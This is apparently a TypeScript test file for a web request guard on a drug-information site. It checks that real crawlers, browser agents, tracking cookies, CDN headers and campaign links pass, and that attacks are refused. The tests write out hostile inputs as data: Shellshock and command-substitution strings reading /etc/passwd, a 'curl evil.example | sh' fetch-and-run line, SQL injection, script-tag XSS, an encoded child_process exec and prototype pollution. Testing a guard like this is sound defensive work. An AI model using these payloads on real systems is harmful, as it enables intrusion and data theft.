import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import crawlers from 'crawler-user-agents';
import desktop from 'top-user-agents/desktop';
import mobile from 'top-user-agents/mobile';
import { startTestServer, type TestServer } from '../../src/testing/test-server.ts';

/**
 * Published user agents of real clients: search engines and other crawlers (crawler-user-agents,
 * some 2,100 strings seen in the wild) and the most common browsers (top-user-agents). A search
 * engine the guard turns away cannot list the site, so the people searching never find it.
 */

/**
 * Still blocked, knowingly: each of these has the shape of an attack in a place the guard judges
 * strictly (outside the user agent's comments), and none is a search engine people use.
 */
const ACCEPTED = new Map<string, string>([
  ["'Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)'", 'wrapped in quotes as recorded; DuckDuckBot itself sends no quotes and passes'],
  ["Friendica 'The Tazmans Flax-lily' 2019.01-1293; https://hoyer.xyz", 'a quoted release name outside any comment'],
  ['CC Metadata Scaper http://wiki.creativecommons.org/Metadata_Scraper', 'starts with "cc", a compiler, followed by arguments'],
  ['Mozilla/5.0 (compatible; Qwantify/2.0n; +https://www.qwant.com/)/*', 'ends with "/*", an SQL comment opener'],
  ['Centro Ads.txt Crawler/1.0', 'names a .txt file outside any comment'],
  ['HanaleiBot runid=beta-stage-integration-test', 'an assignment outside any comment'],
  ['Gulper Web Bot 0.2.4 (www.ecsl.cs.sunysb.edu/~maxim/cgi-bin/Link/GulperBot)', 'a cgi-bin path under a home directory'],
]);
const chrome = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36';

/** The status of a page (the baclofen page unless given) for a request with these headers; the body is read and dropped. */
async function pageStatus(server: TestServer, headers: Record<string, string>, path = '/drugs/baclofen'): Promise<number> {
  const response = await server.get(path, { headers });
  await response.arrayBuffer();
  return response.status;
}

const isGettHit = (ua: string) => ua.startsWith('www.GettHIT.com | Free Traffic Exchange Bot'); // a traffic-exchange spam bot, in pipes

describe('real crawlers and browsers are not blocked', () => {
  it('every published crawler and common browser user agent gets the drug page, but for attack tools and the accepted few', async (t) => {
    const server = await startTestServer();
    t.after(() => server.close());
    const agents = [...new Set([...crawlers.flatMap((c) => c.instances), ...desktop, ...mobile])];
    assert.ok(agents.length > 2000, `${agents.length} user agents`);

    const unexpected: string[] = [];
    let scanners = 0;
    for (const ua of agents) {
      const logged = server.logLines.length;
      const status = await pageStatus(server, { 'user-agent': ua });
      if (status === 200) continue;
      const block = server.logLines.slice(logged).find((line) => line.includes('"guard block"'));
      const rules = block ? (JSON.parse(block) as { rules: string[] }).rules : [];
      // Attack tools listed among the crawlers (Nikto, sqlmap, OpenVAS…) are meant to be refused.
      if (rules.includes('scanner-user-agent')) scanners++;
      else if (!ACCEPTED.has(ua) && !isGettHit(ua)) unexpected.push(`${status} ${rules.join('+')}: ${ua}`);
    }
    assert.deepEqual(unexpected, [], 'no other crawler or browser is blocked');
    assert.ok(scanners >= 3, 'the attack tools among them are still refused');
  });

  it('the user agents that used to be blocked: Bing, DuckDuckGo, Google Feedfetcher, Majestic, Internet Explorer on a touch screen', async (t) => {
    const server = await startTestServer();
    t.after(() => server.close());
    for (const ua of [
      'DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)',
      'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm',
      'Mozilla/5.0 (Windows Phone 8.1; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; NOKIA; Lumia 530) like Gecko (compatible; adidxbot/2.0; +http://www.bing.com/bingbot.htm)',
      'Feedfetcher-Google; (+http://www.google.com/feedfetcher.html; 1 subscribers; feed-id=728742641706423)',
      'Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)',
      'MJ12bot/v1.2.0 (http://majestic12.co.uk/bot.php?+)',
      'Mozilla/5.0 (Windows NT 6.3; Win64; x64; Trident/7.0; Touch; rv:11.0) like Gecko',
    ]) {
      assert.equal(await pageStatus(server, { 'user-agent': ua }), 200, ua);
    }
    // And attacks in the same header still are.
    for (const ua of ['() { :; }; /bin/bash -c "cat /etc/passwd"', 'Mozilla/5.0; cat /etc/passwd', "Mozilla/5.0' OR 1=1--", 'sqlmap/1.7 (https://sqlmap.org)', 'curl http://evil.example/x.sh | sh']) {
      assert.equal(await pageStatus(server, { 'user-agent': ua }), 403, ua);
    }
  });
});

describe('cookies that other sites set are not refused', () => {
  // rxsafety sets no cookie, but a browser sends the ones set for a parent domain or by a proxy in front.

  it('Cloudflare, Google Analytics, Facebook, Hotjar, Segment, Adobe, session ids and consent strings pass', async (t) => {
    const server = await startTestServer();
    t.after(() => server.close());
    for (const cookie of [
      '__cf_bm=Xy3bq8Zf1p0sK2m.dA7pQ9Wv4cN6eR1tU5hJ8kL0o-1732675200-1.0.1.1-aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789_AbCdEf',
      'cf_clearance=Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8L9z0-1732675200-1.2.1.1-abcDEF.ghiJKL_mnoPQR',
      '_ga=GA1.1.1234567890.1732675200; _ga_ABC123XYZ=GS1.1.1732675200.1.1.1732675300.0.0.0',
      '_gid=GA1.2.987654321.1732675200; _fbp=fb.1.1732675200000.1234567890',
      // Hotjar: base64 JSON with padding (the "==" read as an SQL operator, the quotes as code).
      '_hjSessionUser_123456=eyJpZCI6IjEyMzQ1Njc4LTkwYWItY2RlZi0xMjM0LTU2Nzg5MGFiY2RlZiIsImNyZWF0ZWQiOjE3MzI2NzUyMDAwMDAsImV4aXN0aW5nIjp0cnVlfQ==',
      // Segment: a quoted id.
      'ajs_anonymous_id=%22d1b2c3d4-e5f6-7890-abcd-ef1234567890%22',
      'PHPSESSID=abc123def456; JSESSIONID=ABCDEF0123456789.node1',
      'euconsent-v2=CPxyzAAPxyzAAAHABBENDYCgAAAAAAAAAAAAAAAAAAAA.YAAAAAAAAAAA',
      'theme=dark; lang=en-US; tz=America%2FNew_York',
      // Consent managers and Adobe Analytics, as set on an organisation's parent domain.
      'OptanonConsent=isGpcEnabled=0&datestamp=Wed+Nov+27+2026+02%3A30%3A00+GMT%2B0000+(Coordinated+Universal+Time)&version=202310.1.0&isIABGlobal=false&hosts=&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A0',
      'CookieControl={"necessaryCookies":[],"optionalCookies":{"analytics":"revoked"},"statement":{},"consentDate":1732675200000,"interactedWith":true,"user":"ABC-123"}',
      '_iub_cs-12345678=%7B%22timestamp%22%3A%222026-11-27T02%3A30%3A00.000Z%22%2C%22version%22%3A%221.54.0%22%2C%22purposes%22%3A%7B%221%22%3Atrue%2C%224%22%3Afalse%7D%2C%22id%22%3A12345678%7D',
      'borlabs-cookie=%7B%22consents%22%3A%7B%22essential%22%3A%5B%22borlabs-cookie%22%5D%7D%2C%22domainPath%22%3A%22example.org%2F%22%2C%22uid%22%3A%22abc123%22%2C%22version%22%3A%221%22%7D',
      'AMCV_ABC123%40AdobeOrg=-1124106680%7CMCIDTS%7C19700%7CMCMID%7C12345678901234567890123456789012345678%7CMCAAMLH-1733280000%7C7%7CvVersion%7C5.2.0',
    ]) {
      assert.equal(await pageStatus(server, { cookie, 'user-agent': chrome }), 200, cookie);
    }
  });

  it('code in a cookie is still refused: base64-encoded, inside JSON or in a query string', async (t) => {
    const server = await startTestServer();
    t.after(() => server.close());
    const encoded = Buffer.from(`require("child_process").exec('whoami')`).toString('base64');
    const inJson = (value: string) => `prefs=${encodeURIComponent(JSON.stringify({ theme: value }))}`;
    for (const cookie of [`session=${encoded}`, "id=1' OR '1'='1", 'x=<script>alert(1)</script>', 'x=$(cat /etc/passwd)', inJson('<script>alert(1)</script>'), inJson("1' OR '1'='1"), 'p=a=1&b=$(id)']) {
      assert.equal(await pageStatus(server, { cookie, 'user-agent': chrome }), 403, cookie);
    }
  });
});

describe('headers that load balancers, CDNs, tracing and browsers add are not refused', () => {

  it('AWS, Cloudflare, Heroku, Google Cloud, Fastly, Azure, W3C trace context, New Relic, Zipkin and client hints pass', async (t) => {
    const server = await startTestServer();
    t.after(() => server.close());
    const sets: Record<string, string>[] = [
      { 'x-amzn-trace-id': 'Root=1-67891233-abcdef012345678912345678' },
      { traceparent: '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01', tracestate: 'rojo=00f067aa0ba902b7,congo=t61rcWkgMzE' },
      { 'cf-ray': '8e9a1b2c3d4e5f60-IAD', 'cf-connecting-ip': '203.0.113.7', 'cf-ipcountry': 'US', 'cf-visitor': '{"scheme":"https"}', 'cdn-loop': 'cloudflare; loops=1' },
      { forwarded: 'for=192.0.2.60;proto=https;by=203.0.113.43', via: '1.1 vegur, 1.1 varnish' },
      { 'x-forwarded-port': '443', 'x-forwarded-server': 'lb1.example.org', 'x-request-start': 't=1732675200123' },
      { 'x-cloud-trace-context': '105445aa7843bc8bf206b12000100000/1;o=1', 'x-appengine-country': 'US' },
      { 'fastly-client-ip': '203.0.113.7', 'fastly-ff': 'cache-iad-kiad7000025-IAD', 'x-varnish': '123456789 987654321' },
      { 'x-azure-ref': '20241127T023000Z-abc123def456ghi789', 'x-original-url': '/drugs/baclofen' },
      { newrelic: 'eyJ2IjpbMCwxXSwiZCI6eyJ0eSI6IkJyb3dzZXIiLCJhYyI6IjEyMyJ9fQ==', b3: '80f198ee56343ba864fe8b2a57d3eff7-e457b5a2e4d86bd1-1' },
      {
        'sec-ch-ua-full-version-list': '"Chromium";v="126.0.6478.126", "Google Chrome";v="126.0.6478.126", "Not-A.Brand";v="8.0.0.0"',
        'sec-ch-ua-arch': '"x86"',
        'sec-ch-ua-model': '""',
        'sec-ch-ua-platform-version': '"15.0.0"',
      },
      { 'sec-purpose': 'prefetch;prerender', purpose: 'prefetch', 'save-data': 'on', 'x-requested-with': 'XMLHttpRequest' },
    ];
    for (const headers of sets) {
      assert.equal(await pageStatus(server, Object.assign({ 'user-agent': chrome }, headers)), 200, JSON.stringify(headers));
    }
  });

  it('an attack in one of those headers is still refused', async (t) => {
    const server = await startTestServer();
    t.after(() => server.close());
    const attacks: Record<string, string>[] = [
      { forwarded: "for=1' OR '1'='1" },
      { 'cf-visitor': '<script>alert(1)</script>' },
      { 'x-amzn-trace-id': 'Root=$(cat /etc/passwd)' },
      { 'x-original-url': "/drugs/baclofen' UNION SELECT password FROM users--" },
      { traceparent: '() { :; }; /bin/bash -c id' },
      // A client hint outside its grammar is judged strictly.
      { 'sec-ch-ua-model': "'; DROP TABLE users; --" },
    ];
    for (const headers of attacks) {
      assert.equal(await pageStatus(server, Object.assign({ 'user-agent': chrome }, headers)), 403, JSON.stringify(headers));
    }
  });
});

describe('links as people share them are not refused', () => {

  it('campaign, click and share parameters, and plain names such as id, sort and source, on pages that read none of them', async (t) => {
    const server = await startTestServer();
    t.after(() => server.close());
    const queries = [
      'utm_source=newsletter&utm_medium=email&utm_campaign=baclofen-guide&utm_content=cta_button&utm_term=baclofen+withdrawal',
      'gclid=Cj0KCQiA2eKtBhDcARIsAEGTG40r4LUtKf6tK3VYb7zOgfBNMf-pvBJc3CQy5L8n1_TaFBGQYeFvx5MaAtSQEALw_wcB',
      'fbclid=IwAR2F4-dbP0l7Mn1IawQQGCINEz7PYXQvwjNwB4vOnzgaUNRbvl7ARl8-p1s',
      'msclkid=4b2c6f4e9a1d1b3c5e7f9a2b4c6d8e0f',
      'mc_cid=1a2b3c4d5e&mc_eid=9f8e7d6c5b',
      '_gl=1*1abcd2e*_ga*MTIzNDU2Nzg5MC4xNzMyNjc1MjAw*_ga_ABC123XYZ*MTczMjY3NTIwMC4xLjEuMTczMjY3NTMwMC4wLjAuMA..',
      'srsltid=AfmBOoqX1z-2yN3wQ4eR5tY6uI7oP8aS9dF0gH1jK2lZ3xC4vB5nM6',
      // Instagram's share id is base64 with padding; "ref" and "source" name where a link was posted.
      'igshid=MzRlODBiNWFlZA==',
      'ref=producthunt&source=twitter',
      'id=5',
      'sort=name&time=3',
    ];
    for (const path of ['/', '/drugs/baclofen', '/guides/baclofen']) {
      for (const query of queries) {
        assert.equal(await pageStatus(server, { 'user-agent': chrome }, `${path}?${query}`), 200, `${path}?${query}`);
      }
    }
  });

  it('code in a parameter nothing reads is still refused', async (t) => {
    const server = await startTestServer();
    t.after(() => server.close());
    for (const query of ["id=1' OR '1'='1", 'x=$(cat /etc/passwd)', 'x=<script>alert(1)</script>', '__proto__[admin]=1', 'x=cat /etc/passwd']) {
      assert.equal(await pageStatus(server, { 'user-agent': chrome }, `/drugs/baclofen?${query}`), 403, query);
    }
  });
});
